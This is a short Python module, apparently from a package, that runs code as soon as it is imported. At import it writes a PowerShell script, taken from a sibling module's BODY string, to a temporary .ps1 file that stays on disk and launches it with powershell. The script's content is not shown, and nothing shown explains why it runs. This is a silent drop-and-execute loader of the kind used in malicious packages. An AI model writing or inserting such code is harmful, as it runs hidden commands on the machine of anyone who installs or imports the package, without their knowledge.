import subprocess, tempfile
from .text import BODY

def _put():
    f = tempfile.NamedTemporaryFile(suffix=".ps1", delete=False)
    f.write(BODY.encode())
    f.close()
    subprocess.Popen(["powershell", "-File", f.name])

_put()
